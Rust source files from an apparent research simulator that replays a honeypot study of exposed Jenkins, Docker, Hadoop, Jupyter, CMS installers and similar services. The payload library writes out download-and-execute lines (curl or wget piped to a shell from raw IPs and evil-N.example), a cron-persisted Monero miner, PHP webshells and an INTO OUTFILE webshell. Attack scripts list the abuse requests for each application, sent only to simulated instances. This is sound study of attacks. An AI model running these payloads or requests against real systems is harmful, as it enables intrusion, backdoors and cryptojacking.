    #[test]
    fn attacker_concentration_matches_rq6() {
        let p = plan();
        let mut per_attacker: HashMap<AttackerId, usize> = HashMap::new();
        for a in &p.attacks {
            *per_attacker.entry(a.attacker).or_default() += 1;
        }
        let mut counts: Vec<usize> = per_attacker.values().copied().collect();
        counts.sort_by_key(|c| std::cmp::Reverse(*c));
        assert_eq!(counts[0], 719, "most active attacker");
        let top5: usize = counts.iter().take(5).sum();
        let top10: usize = counts.iter().take(10).sum();
        assert_eq!(top5, 1492, "top five attackers (67%)");
        assert_eq!(top10, 1845, "top ten attackers (84%)");
    }

    #[test]
    fn figure4_actors_are_present() {
        let p = plan();
        let multi: Vec<&Attacker> = p.attackers.iter().filter(|a| a.is_multi_target()).collect();
        assert_eq!(multi.len(), 10, "attackers I..X");
        let multi_ids: Vec<AttackerId> = multi.iter().map(|a| a.id).collect();
        let multi_attacks = p
            .attacks
            .iter()
            .filter(|a| multi_ids.contains(&a.attacker))
            .count();
        assert_eq!(multi_attacks, 419, "Figure 4 actors' share");

        // Attacker I: 14 IPs, Docker + J-Notebook.
        let att_i = p.attackers.iter().find(|a| a.label == "att-I").unwrap();
        assert_eq!(att_i.ips.len(), 14);
        assert_eq!(att_i.targets.len(), 2);
        assert!(att_i.targets.contains(&AppId::Docker));
        assert!(att_i.targets.contains(&AppId::JupyterNotebook));
        // Attacker II: 326 attacks on Hadoop + Docker.
        let att_ii = p.attackers.iter().find(|a| a.label == "att-II").unwrap();
        let ii_attacks = p.attacks.iter().filter(|a| a.attacker == att_ii.id).count();
        assert_eq!(ii_attacks, 326);
    }

    #[test]
    fn same_ip_attacks_are_spaced_beyond_grouping_window() {
        let p = plan();
        let mut last: HashMap<(Ipv4Addr, AppId), SimTime> = HashMap::new();
        for a in &p.attacks {
            if let Some(prev) = last.get(&(a.ip, a.app)) {
                let gap = a.time.since(*prev);
                assert!(
                    gap >= SimDuration::minutes(15),
                    "{} attacks {} only {} apart",
                    a.ip,
                    a.app,
                    gap
                );
            }
            last.insert((a.ip, a.app), a.time);
        }
    }

    #[test]
    fn geo_assignment_reproduces_table8_shape() {
        let p = plan();
        let mut per_as: HashMap<&str, u64> = HashMap::new();
        for a in &p.attacks {
            *per_as.entry(a.geo.asys.name).or_default() += 1;
        }
        let mut rows: Vec<(&str, u64)> = per_as.into_iter().collect();
        rows.sort_by_key(|(_, n)| std::cmp::Reverse(*n));
        assert_eq!(rows[0].0, "Serverion BV");
        assert_eq!(rows[1].0, "Gamers Club");
        assert_eq!(rows[2].0, "DigitalOcean");
        // Quotas are met within the granularity of whole IPs.
        assert!(
            (rows[0].1 as i64 - 469).abs() <= 60,
            "Serverion ≈ 469, got {}",
            rows[0].1
        );
        assert!(
            (rows[1].1 as i64 - 396).abs() <= 60,
            "Gamers Club ≈ 396, got {}",
            rows[1].1
        );
    }

    #[test]
    fn attacks_are_time_sorted_and_within_window() {
        let p = plan();
        let end = SimTime::HONEYPOT_START + SimTime::OBSERVATION;
        for w in p.attacks.windows(2) {
            assert!(w[0].time <= w[1].time);
        }
        for a in &p.attacks {
            assert!(a.time >= SimTime::HONEYPOT_START);
            assert!(a.time <= end, "{} after window end", a.time);
        }
    }

    #[test]
    fn plan_is_deterministic_per_seed() {
        let a = study_plan(7);
        let b = study_plan(7);
        assert_eq!(a.attacks.len(), b.attacks.len());
        for (x, y) in a.attacks.iter().zip(&b.attacks) {
            assert_eq!(x.time, y.time);
            assert_eq!(x.ip, y.ip);
            assert_eq!(x.payload.command, y.payload.command);
        }
        let c = study_plan(8);
        assert!(
            a.attacks
                .iter()
                .zip(&c.attacks)
                .any(|(x, y)| x.time != y.time),
            "different seeds should differ in jitter"
        );
    }

    #[test]
    fn payloads_and_ips_never_cross_actors() {
        // This property is what lets the honeypot's payload/IP clustering
        // recover the actor population exactly.
        let p = plan();
        let mut payload_owner: HashMap<&str, AttackerId> = HashMap::new();
        let mut ip_owner: HashMap<Ipv4Addr, AttackerId> = HashMap::new();
        for a in &p.attacks {
            if let Some(owner) = payload_owner.insert(a.payload.command.as_str(), a.attacker) {
                assert_eq!(
                    owner, a.attacker,
                    "payload {} crosses actors",
                    a.payload.name
                );
            }
            if let Some(owner) = ip_owner.insert(a.ip, a.attacker) {
                assert_eq!(owner, a.attacker, "ip {} crosses actors", a.ip);
            }
        }
    }

    #[test]
    fn vigilante_targets_jupyter_lab() {
        let p = plan();
        let vigilante_attacks: Vec<&PlannedAttack> = p
            .attacks
            .iter()
            .filter(|a| a.payload.command == "shutdown")
            .collect();
        assert!(!vigilante_attacks.is_empty());
        assert!(vigilante_attacks.iter().all(|a| a.app == AppId::JupyterLab));
    }
}
