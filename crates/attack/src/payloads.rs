//! The payload library.
//!
//! Payload *identity* (the normalized command string) is what the
//! honeypot's clustering groups by; payload *kind* determines the
//! simulated post-exploitation behaviour (resource usage, persistence)
//! that drives the resource monitor.

use serde::Serialize;

/// Behavioural class of a payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum PayloadKind {
    /// Monero-style cryptominer: pegs the CPU, installs a cronjob,
    /// terminates competing miners.
    Cryptominer,
    /// The Kinsing campaign: container/API-propagating miner.
    Kinsing,
    /// Stops the service ("shutdown") without further abuse.
    Vigilante,
    /// Generic downloader/backdoor staging.
    Downloader,
    /// CMS installation hijack followed by webshell deployment.
    InstallHijack,
    /// Data-oriented SQL abuse.
    SqlAbuse,
}

impl PayloadKind {
    /// Simulated CPU-utilisation fraction once the payload runs — input
    /// to the honeypot resource monitor.
    pub fn cpu_load(self) -> f64 {
        match self {
            PayloadKind::Cryptominer | PayloadKind::Kinsing => 0.98,
            PayloadKind::Downloader => 0.25,
            PayloadKind::InstallHijack => 0.10,
            PayloadKind::SqlAbuse => 0.15,
            PayloadKind::Vigilante => 0.0,
        }
    }

    /// Whether the payload persists across restarts (cronjob).
    pub fn persists(self) -> bool {
        matches!(self, PayloadKind::Cryptominer | PayloadKind::Kinsing)
    }
}

/// A concrete payload.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
pub struct Payload {
    /// Stable identity, e.g. `kinsing-v2`; clustering keys on this via
    /// the command string.
    pub name: String,
    /// The command the attack executes on the victim.
    pub command: String,
    pub kind: PayloadKind,
}

impl Payload {
    /// The Monero miner the paper describes: kills competitors and adds
    /// a cronjob for persistence.
    pub fn monero_miner(variant: u32) -> Payload {
        Payload {
            name: format!("monero-cron-v{variant}"),
            command: format!(
                "pkill -f kinsing; pkill -f kdevtmpfsi; \
                 (crontab -l; echo '* * * * * /tmp/.X{variant}/xmrig -o pool.minexmr.com:4444') | crontab -; \
                 curl -s http://185.191.32.{variant}/x{variant}.sh | sh"
            ),
            kind: PayloadKind::Cryptominer,
        }
    }

    /// A Kinsing-campaign stage-one downloader.
    pub fn kinsing(variant: u32) -> Payload {
        Payload {
            name: format!("kinsing-v{variant}"),
            command: format!("wget -q -O - http://195.3.146.{variant}/d.sh | sh; /tmp/kinsing"),
            kind: PayloadKind::Kinsing,
        }
    }

    /// The vigilante who shuts the service down.
    pub fn vigilante() -> Payload {
        Payload {
            name: "vigilante-shutdown".to_string(),
            command: "shutdown".to_string(),
            kind: PayloadKind::Vigilante,
        }
    }

    /// A generic staged downloader.
    pub fn downloader(variant: u32) -> Payload {
        Payload {
            name: format!("downloader-v{variant}"),
            command: format!("curl -fsSL http://evil-{variant}.example/x.sh | bash"),
            kind: PayloadKind::Downloader,
        }
    }

    /// CMS installation hijack + PHP webshell.
    pub fn install_hijack(variant: u32) -> Payload {
        Payload {
            name: format!("install-hijack-v{variant}"),
            command: format!("<?php /*shell-{variant}*/ system($_GET['c']); ?>"),
            kind: PayloadKind::InstallHijack,
        }
    }

    /// SQL-level abuse through database control panels.
    pub fn sql_abuse(variant: u32) -> Payload {
        Payload {
            name: format!("sql-abuse-v{variant}"),
            command: format!(
                "SELECT '<?php system($_GET[{variant}]);' INTO OUTFILE '/var/www/html/s{variant}.php'"
            ),
            kind: PayloadKind::SqlAbuse,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_have_distinct_identities() {
        assert_ne!(Payload::kinsing(1), Payload::kinsing(2));
        assert_ne!(
            Payload::kinsing(1).command,
            Payload::monero_miner(1).command
        );
    }

    #[test]
    fn miner_kills_competitors_and_persists() {
        let p = Payload::monero_miner(3);
        assert!(p.command.contains("pkill -f kinsing"));
        assert!(p.command.contains("crontab"));
        assert!(p.kind.persists());
        assert!(p.kind.cpu_load() > 0.9);
    }

    #[test]
    fn vigilante_is_harmless_to_resources() {
        let p = Payload::vigilante();
        assert_eq!(p.kind.cpu_load(), 0.0);
        assert!(!p.kind.persists());
        assert_eq!(p.command, "shutdown");
    }

    #[test]
    fn kinds_cover_the_observed_behaviours() {
        // Sanity: each constructor produces the kind it claims.
        assert_eq!(Payload::kinsing(1).kind, PayloadKind::Kinsing);
        assert_eq!(Payload::downloader(1).kind, PayloadKind::Downloader);
        assert_eq!(Payload::install_hijack(1).kind, PayloadKind::InstallHijack);
        assert_eq!(Payload::sql_abuse(1).kind, PayloadKind::SqlAbuse);
    }
}
