//! Attack scripts: the HTTP request sequence an attack performs against
//! each application's abuse surface.
//!
//! The honeypot study replays these scripts through the normal HTTP
//! stack, so compromises are real state transitions of the application
//! models, observed by the monitors exactly as Packetbeat/Auditbeat would
//! observe them.

use crate::payloads::{Payload, PayloadKind};
use nokeys_apps::AppId;
use nokeys_http::{Method, Request};

/// Build the request sequence for attacking `app` with `payload`.
///
/// Returns an empty script for applications whose abuse surface the
/// payload cannot use (e.g. a cryptominer makes no sense against a CMS
/// installer; the planner never produces such combinations, but the
/// function stays total).
pub fn attack_script(app: AppId, payload: &Payload) -> Vec<Request> {
    let cmd = payload.command.clone();
    match app {
        AppId::Jenkins => vec![Request::post("/script", cmd)],
        AppId::Gocd => vec![Request::post(
            "/go/api/admin/pipelines",
            format!("{{\"tasks\":[\"{}\"]}}", cmd.replace('"', "'")),
        )],
        AppId::WordPress => vec![
            Request::post("/wp-admin/install.php?step=2", "user_name=hacked&admin_password=pwned"),
            Request::post("/wp-admin/theme-editor.php", cmd),
        ],
        AppId::Grav => vec![
            Request::post("/admin", "username=hacked&password=pwned"),
            Request::post("/admin/config/system", cmd),
        ],
        AppId::Joomla => vec![
            Request::post("/installation/index.php", "admin_user=hacked"),
            Request::post("/administrator/index.php", cmd),
        ],
        AppId::Drupal => vec![
            Request::post("/core/install.php", "account_name=hacked"),
            Request::post("/admin/modules/install", cmd),
        ],
        AppId::Kubernetes => vec![Request::post(
            "/api/v1/namespaces/default/pods",
            format!(
                "{{\"metadata\":{{\"name\":\"mal-pod\"}},\"spec\":{{\"containers\":[{{\"image\":\"attacker/img\",\"command\":\"{}\"}}]}}}}",
                cmd.replace('"', "'")
            ),
        )],
        AppId::Docker => vec![
            Request::post(
                "/containers/create",
                format!(
                    "{{\"Image\":\"{}\",\"Cmd\":\"{}\"}}",
                    if payload.kind == PayloadKind::Kinsing { "kinsing/kinsing" } else { "alpine" },
                    cmd.replace('"', "'")
                ),
            ),
            // The container id is deterministic for a fresh daemon
            // snapshot; the study restores between compromises.
            Request::post("/containers/c00000001/start", ""),
        ],
        AppId::Consul => vec![Request {
            method: Method::Put,
            target: "/v1/agent/check/register".into(),
            version: Default::default(),
            headers: Default::default(),
            body: format!(
                "{{\"Name\":\"health\",\"Script\":\"{}\",\"Interval\":\"10s\"}}",
                cmd.replace('"', "'")
            )
            .into_bytes()
            .into(),
        }],
        AppId::Hadoop => vec![
            Request::get("/ws/v1/cluster/apps/new-application"),
            Request::post(
                "/ws/v1/cluster/apps",
                format!(
                    "{{\"application-id\":\"application_1\",\"am-container-spec\":{{\"commands\":{{\"command\":\"{}\"}}}}}}",
                    cmd.replace('"', "'")
                ),
            ),
        ],
        AppId::Nomad => vec![Request::post(
            "/v1/jobs",
            format!(
                "{{\"Job\":{{\"ID\":\"job\",\"TaskGroups\":[{{\"Tasks\":[{{\"Driver\":\"raw_exec\",\"Config\":{{\"command\":\"{}\"}}}}]}}]}}}}",
                cmd.replace('"', "'")
            ),
        )],
        AppId::JupyterLab | AppId::JupyterNotebook => vec![
            Request::post("/api/terminals", ""),
            Request::post("/api/terminals/1", cmd),
        ],
        AppId::Zeppelin => vec![
            Request::post("/api/notebook", "{\"name\":\"note\"}"),
            Request::post("/api/notebook/job/note-1", format!("%sh {cmd}")),
        ],
        AppId::Polynote => vec![Request::post("/notebooks/nb/run", cmd)],
        AppId::Ajenti => vec![Request::post("/api/terminal/exec", cmd)],
        AppId::PhpMyAdmin => vec![Request::post("/import.php", format!("sql_query={cmd}"))],
        AppId::Adminer => vec![Request::post("/adminer.php", format!("query={cmd}"))],
        // Out-of-scope applications have no abuse surface.
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::{build_instance, release_history, AppConfig};
    use std::net::Ipv4Addr;

    /// Replaying the script against a vulnerable instance must produce a
    /// compromise (this is the contract the honeypot study relies on).
    #[test]
    fn scripts_compromise_every_vulnerable_app() {
        let attacker = Ipv4Addr::new(203, 0, 113, 200);
        for app in AppId::in_scope() {
            let history = release_history(app);
            let old = matches!(
                app,
                AppId::Jenkins | AppId::JupyterNotebook | AppId::Joomla | AppId::Adminer
            );
            let version = if old {
                history[0]
            } else {
                *history.last().unwrap()
            };
            let cfg = AppConfig::vulnerable_for(app, &version);
            let mut inst = build_instance(app, version, cfg);
            let payload = Payload::downloader(7);
            let mut compromised = false;
            for req in attack_script(app, &payload) {
                let out = inst.handle(&req, attacker);
                if out.events.iter().any(|e| e.is_compromise()) {
                    compromised = true;
                }
            }
            assert!(compromised, "{app}: script failed to compromise");
        }
    }

    #[test]
    fn scripts_fail_against_secured_apps() {
        let attacker = Ipv4Addr::new(203, 0, 113, 200);
        for app in AppId::in_scope().filter(|a| *a != AppId::Polynote) {
            let history = release_history(app);
            let version = *history.last().unwrap();
            let cfg = AppConfig::secure_for(app, &version);
            let mut inst = build_instance(app, version, cfg);
            let payload = Payload::downloader(7);
            for req in attack_script(app, &payload) {
                let out = inst.handle(&req, attacker);
                assert!(
                    out.events.iter().all(|e| !e.is_compromise()),
                    "{app}: compromised despite being secure"
                );
            }
        }
    }

    #[test]
    fn out_of_scope_apps_have_empty_scripts() {
        assert!(attack_script(AppId::Gitlab, &Payload::downloader(1)).is_empty());
        assert!(attack_script(AppId::Ghost, &Payload::kinsing(1)).is_empty());
    }

    #[test]
    fn payload_command_reaches_the_wire() {
        let p = Payload::monero_miner(9);
        let script = attack_script(AppId::Hadoop, &p);
        assert_eq!(script.len(), 2);
        assert!(script[1].body_text().contains("pkill"));
    }
}
