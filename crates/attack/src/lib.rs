//! Simulated attacker ecosystem for the honeypot study (Section 4).
//!
//! The paper observed 2,195 attacks from 160 IP addresses against 7 of
//! the 18 honeypots over four weeks. This crate models that ecosystem:
//!
//! * a [`payloads`] library (Kinsing-style campaign, Monero miner with
//!   cron persistence and competitor killing, vigilante shutdowns,
//!   generic downloaders),
//! * an [`actor`] model — attackers with IP pools, target applications
//!   and payload repertoires,
//! * [`script`]s — the HTTP request sequences an attack performs against
//!   each application's abuse surface, and
//! * a calibrated [`plan`] — the full four-week attack schedule whose
//!   per-application totals, payload diversity, IP diversity and timing
//!   reproduce Tables 5–8 and Figures 3–4.

pub mod actor;
pub mod payloads;
pub mod plan;
pub mod script;

pub use actor::{Attacker, AttackerId};
pub use payloads::{Payload, PayloadKind};
pub use plan::{study_plan, PlannedAttack, StudyPlan};
pub use script::attack_script;
