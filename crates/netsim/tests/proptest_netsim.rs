//! Property tests for the simulation substrate: CIDR algebra, event
//! ordering, lifecycle monotonicity and universe determinism.

use nokeys_netsim::ip::{Cidr, ReservedRanges};
use nokeys_netsim::lifecycle::HostState;
use nokeys_netsim::{EventQueue, SimTime, Universe, UniverseConfig};
use proptest::prelude::*;
use std::net::Ipv4Addr;

proptest! {
    /// A CIDR contains exactly its own addresses.
    #[test]
    fn cidr_contains_its_range(base in any::<u32>(), prefix in 8u8..=30) {
        let cidr = Cidr::new(Ipv4Addr::from(base), prefix);
        prop_assert!(cidr.contains(cidr.first()));
        prop_assert!(cidr.contains(cidr.last()));
        let beyond = u32::from(cidr.last()).checked_add(1);
        if let Some(b) = beyond {
            prop_assert!(!cidr.contains(Ipv4Addr::from(b)));
        }
        prop_assert_eq!(cidr.size(), 1u64 << (32 - prefix));
    }

    /// /24 decomposition partitions the block: disjoint and complete.
    #[test]
    fn slash24_blocks_partition(base in any::<u32>(), prefix in 16u8..=24) {
        let cidr = Cidr::new(Ipv4Addr::from(base), prefix);
        let blocks: Vec<Cidr> = cidr.slash24_blocks().collect();
        let total: u64 = blocks.iter().map(|b| b.size()).sum();
        prop_assert_eq!(total, cidr.size());
        for w in blocks.windows(2) {
            prop_assert!(u64::from(w[0].base) + w[0].size() == u64::from(w[1].base));
        }
    }

    /// CIDR parsing round trips through Display.
    #[test]
    fn cidr_display_round_trip(base in any::<u32>(), prefix in 0u8..=32) {
        let cidr = Cidr::new(Ipv4Addr::from(base), prefix);
        let back: Cidr = cidr.to_string().parse().expect("display parses");
        prop_assert_eq!(cidr, back);
    }

    /// The event queue pops in exactly sorted-stable order.
    #[test]
    fn event_queue_is_a_stable_sort(times in proptest::collection::vec(0i64..1000, 0..200)) {
        let mut q = EventQueue::new();
        for (i, t) in times.iter().enumerate() {
            q.schedule(SimTime(*t), i);
        }
        let mut reference: Vec<(i64, usize)> =
            times.iter().enumerate().map(|(i, t)| (*t, i)).collect();
        reference.sort(); // stable by (time, insertion index)
        let mut popped = Vec::new();
        while let Some((t, i)) = q.pop() {
            popped.push((t.as_secs(), i));
        }
        prop_assert_eq!(popped, reference);
    }

    /// Host lifecycle is monotone: once a host leaves `Online` it never
    /// returns, and once `Offline` it stays `Offline`.
    #[test]
    fn lifecycle_is_monotone(seed in any::<u64>(), samples in 2usize..40) {
        use rand::SeedableRng;
        let mut rng = rand::rngs::SmallRng::seed_from_u64(seed);
        let params =
            nokeys_netsim::lifecycle::LifecycleParams::for_category(nokeys_apps::Category::Cm);
        let plan = params.sample(&mut rng, true);
        let step = (28 * 86_400) / samples as i64;
        let mut prev = HostState::Online;
        for i in 0..=samples as i64 {
            let state = plan.state_at(SimTime(i * step));
            let regression = matches!(
                (prev, state),
                (HostState::Offline, HostState::Online)
                    | (HostState::Offline, HostState::Fixed)
                    | (HostState::Fixed, HostState::Online)
            );
            prop_assert!(!regression, "{:?} -> {:?}", prev, state);
            prev = state;
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Universe generation is a pure function of the seed.
    #[test]
    fn universe_determinism(seed in any::<u64>()) {
        let a = Universe::generate(UniverseConfig::tiny(seed));
        let b = Universe::generate(UniverseConfig::tiny(seed));
        prop_assert_eq!(a.host_count(), b.host_count());
        let mut ips_a: Vec<u32> = a.hosts().map(|h| u32::from(h.ip)).collect();
        let mut ips_b: Vec<u32> = b.hosts().map(|h| u32::from(h.ip)).collect();
        ips_a.sort();
        ips_b.sort();
        prop_assert_eq!(&ips_a, &ips_b);
        for ip in ips_a {
            let ha = a.host(Ipv4Addr::from(ip)).expect("host");
            let hb = b.host(Ipv4Addr::from(ip)).expect("host");
            prop_assert_eq!(&ha.services, &hb.services);
            prop_assert_eq!(ha.lifecycle, hb.lifecycle);
            prop_assert_eq!(&ha.cert_domain, &hb.cert_domain);
        }
    }

    /// Every generated host sits inside the configured space and outside
    /// IANA reserved ranges (the space itself is chosen unreserved).
    #[test]
    fn universe_hosts_stay_in_space(seed in any::<u64>()) {
        let config = UniverseConfig::tiny(seed);
        let u = Universe::generate(config.clone());
        let reserved = ReservedRanges::iana();
        for host in u.hosts() {
            prop_assert!(config.space.contains(host.ip), "{} outside space", host.ip);
            prop_assert!(!reserved.contains(host.ip));
        }
    }
}
