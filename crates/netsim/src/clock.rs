//! Virtual time.
//!
//! All studies run on simulated time so that "four weeks of observation"
//! completes in milliseconds and is perfectly reproducible. `SimTime` is
//! anchored at the start of the Internet-wide scan (June 03, 2021, 00:00
//! UTC); the honeypot study begins six days later (June 09, 2021).

use serde::{Deserialize, Serialize};
use std::fmt;
use std::ops::{Add, AddAssign, Sub};

/// A span of virtual time, in seconds (may be negative for arithmetic).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct SimDuration(pub i64);

impl SimDuration {
    pub const ZERO: SimDuration = SimDuration(0);
    pub const SECOND: SimDuration = SimDuration(1);
    pub const MINUTE: SimDuration = SimDuration(60);
    pub const HOUR: SimDuration = SimDuration(3600);
    pub const DAY: SimDuration = SimDuration(86_400);
    pub const WEEK: SimDuration = SimDuration(7 * 86_400);

    pub fn seconds(s: i64) -> Self {
        SimDuration(s)
    }

    pub fn minutes(m: i64) -> Self {
        SimDuration(m * 60)
    }

    pub fn hours(h: i64) -> Self {
        SimDuration(h * 3600)
    }

    pub fn days(d: i64) -> Self {
        SimDuration(d * 86_400)
    }

    /// Fractional hours — the unit of Table 6.
    pub fn as_hours_f64(self) -> f64 {
        self.0 as f64 / 3600.0
    }

    pub fn as_secs(self) -> i64 {
        self.0
    }

    /// Scale by a float (used when sampling lifecycle horizons).
    pub fn mul_f64(self, f: f64) -> Self {
        SimDuration((self.0 as f64 * f).round() as i64)
    }
}

impl Add for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl Sub for SimDuration {
    type Output = SimDuration;
    fn sub(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 - rhs.0)
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let total = self.0;
        let sign = if total < 0 { "-" } else { "" };
        let total = total.abs();
        let (d, rem) = (total / 86_400, total % 86_400);
        let (h, rem) = (rem / 3600, rem % 3600);
        let (m, s) = (rem / 60, rem % 60);
        if d > 0 {
            write!(f, "{sign}{d}d {h:02}:{m:02}:{s:02}")
        } else {
            write!(f, "{sign}{h:02}:{m:02}:{s:02}")
        }
    }
}

/// An instant of virtual time: seconds since the scan epoch
/// (2021-06-03 00:00 UTC).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct SimTime(pub i64);

impl SimTime {
    /// Start of the Internet-wide scan (June 03, 2021).
    pub const SCAN_START: SimTime = SimTime(0);
    /// Start of the honeypot study (June 09, 2021) — six days after the
    /// scan epoch.
    pub const HONEYPOT_START: SimTime = SimTime(6 * 86_400);
    /// End of both four-week observation windows, relative to their
    /// respective starts.
    pub const OBSERVATION: SimDuration = SimDuration(28 * 86_400);

    pub fn since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0 - earlier.0)
    }

    pub fn as_secs(self) -> i64 {
        self.0
    }
}

impl Add<SimDuration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.0)
    }
}

impl AddAssign<SimDuration> for SimTime {
    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl Sub<SimDuration> for SimTime {
    type Output = SimTime;
    fn sub(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 - rhs.0)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "T+{}", SimDuration(self.0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arithmetic() {
        let t = SimTime::SCAN_START + SimDuration::hours(3);
        assert_eq!(t.as_secs(), 10_800);
        assert_eq!(t.since(SimTime::SCAN_START), SimDuration::hours(3));
        assert_eq!((t - SimDuration::hours(1)).as_secs(), 7200);
    }

    #[test]
    fn honeypot_starts_six_days_in() {
        assert_eq!(
            SimTime::HONEYPOT_START.since(SimTime::SCAN_START),
            SimDuration::days(6)
        );
    }

    #[test]
    fn duration_units_and_hours() {
        assert_eq!(SimDuration::DAY, SimDuration::hours(24));
        assert_eq!(SimDuration::WEEK, SimDuration::days(7));
        assert!((SimDuration::minutes(90).as_hours_f64() - 1.5).abs() < 1e-9);
    }

    #[test]
    fn display_formats() {
        assert_eq!(SimDuration::seconds(59).to_string(), "00:00:59");
        assert_eq!(SimDuration::hours(25).to_string(), "1d 01:00:00");
        assert_eq!(SimDuration::seconds(-60).to_string(), "-00:01:00");
        assert_eq!((SimTime(3600)).to_string(), "T+01:00:00");
    }

    #[test]
    fn mul_f64_rounds() {
        assert_eq!(SimDuration::hours(1).mul_f64(0.5), SimDuration::minutes(30));
    }
}
