//! Name-based virtual hosting and the Certificate-Transparency registry.
//!
//! Section 6.2 of the paper ("Under counting"): an IP-based scan misses
//! applications on shared hosting that are distinguished by the `Host`
//! header, and attackers can do better than a full IPv4 sweep by watching
//! Certificate Transparency logs for newly registered domains — fresh
//! domains often carry *unfinished CMS installations* for a window of
//! time (Böck's "hacking web applications before they are installed").
//!
//! This module models both: virtual hosts with an installation timeline,
//! and the CT log that publishes `(domain, time)` as certificates are
//! issued at registration.

use crate::clock::SimTime;
use nokeys_apps::AppId;
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// Lifecycle state of a virtual host at a point in time.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum VhostState {
    /// Domain not registered yet: the shared host serves its default
    /// page for this name.
    NotRegistered,
    /// Registered, files extracted, installation not completed — the
    /// hijackable window.
    PreInstall,
    /// Owner completed the installation.
    Installed,
}

/// One name-based virtual host on a shared-hosting machine.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct VirtualHost {
    pub domain: String,
    /// The CMS deployed under this name.
    pub app: AppId,
    /// Index into the app's release history.
    pub version_index: usize,
    /// When the domain was registered (certificate issued → CT entry).
    pub registered_at: SimTime,
    /// When the owner completes the installation.
    pub installed_at: SimTime,
}

impl VirtualHost {
    /// State at time `t`.
    pub fn state_at(&self, t: SimTime) -> VhostState {
        if t < self.registered_at {
            VhostState::NotRegistered
        } else if t < self.installed_at {
            VhostState::PreInstall
        } else {
            VhostState::Installed
        }
    }

    /// The hijackable window length in seconds.
    pub fn race_window_secs(&self) -> i64 {
        self.installed_at.since(self.registered_at).as_secs()
    }
}

/// A Certificate-Transparency log entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CtEntry {
    pub domain: String,
    /// Where the domain points (the attacker resolves DNS).
    pub ip: Ipv4Addr,
    /// When the certificate hit the log.
    pub logged_at: SimTime,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::SimDuration;

    fn vhost() -> VirtualHost {
        VirtualHost {
            domain: "fresh-blog.example".to_string(),
            app: AppId::WordPress,
            version_index: 0,
            registered_at: SimTime(1000),
            installed_at: SimTime(1000) + SimDuration::hours(8),
        }
    }

    #[test]
    fn state_transitions() {
        let v = vhost();
        assert_eq!(v.state_at(SimTime(0)), VhostState::NotRegistered);
        assert_eq!(v.state_at(SimTime(1000)), VhostState::PreInstall);
        assert_eq!(
            v.state_at(SimTime(1000) + SimDuration::hours(7)),
            VhostState::PreInstall
        );
        assert_eq!(
            v.state_at(SimTime(1000) + SimDuration::hours(8)),
            VhostState::Installed
        );
    }

    #[test]
    fn race_window() {
        assert_eq!(vhost().race_window_secs(), 8 * 3600);
    }
}
