//! Re-export of the shared IPv4 utilities from `nokeys-http`.

pub use nokeys_http::ip::{Cidr, ReservedRanges};
