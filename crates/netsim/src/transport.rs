//! In-memory [`Transport`] implementation over the simulated universe.
//!
//! Connections are byte-accurate: the client writes a serialized HTTP
//! request, the connection parses it, dispatches to the universe and
//! queues the serialized response for reading — so the exact same client
//! and pipeline code runs against the simulation and against real TCP.

use crate::clock::SimTime;
use crate::fault::{FaultLane, FaultPlan, FaultStats};
use crate::ip::Cidr;
use crate::universe::{ConnectBehavior, Universe};
use bytes::{Buf, BytesMut};
use nokeys_http::parse::{parse_request_incremental, HeadScanner, Limits, Parsed};
use nokeys_http::transport::{CertificateInfo, Connection};
use nokeys_http::{BlockSweepResult, Endpoint, ProbeOutcome, Result, Scheme, Transport};
use parking_lot::RwLock;
use std::net::Ipv4Addr;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};

/// Operation counters, used by benchmarks and the pipeline-ablation
/// study.
#[derive(Debug, Default)]
pub struct TransportStats {
    pub probes: AtomicU64,
    pub connects: AtomicU64,
    pub requests: AtomicU64,
}

impl TransportStats {
    pub fn probes(&self) -> u64 {
        self.probes.load(Ordering::Relaxed)
    }
    pub fn connects(&self) -> u64 {
        self.connects.load(Ordering::Relaxed)
    }
    pub fn requests(&self) -> u64 {
        self.requests.load(Ordering::Relaxed)
    }
}

/// Transport over a shared universe snapshot, evaluated at a settable
/// virtual time (the longevity observer advances it between rescans).
#[derive(Clone)]
pub struct SimTransport {
    universe: Arc<Universe>,
    now: Arc<RwLock<SimTime>>,
    stats: Arc<TransportStats>,
    /// Source address the universe sees for requests from this transport.
    scanner_ip: Ipv4Addr,
    /// Transient-loss schedule: probe faults drop the SYN answer
    /// (`Filtered`), connect faults time the attempt out. Decisions are
    /// keyed per `(endpoint, lane, attempt ordinal)` — see
    /// [`FaultPlan`] — so the schedule one endpoint sees is independent
    /// of cross-endpoint execution order, and fault-injected runs
    /// replay exactly at any parallelism.
    faults: FaultPlan,
}

impl SimTransport {
    pub fn new(universe: Arc<Universe>) -> Self {
        SimTransport {
            universe,
            now: Arc::new(RwLock::new(SimTime::SCAN_START)),
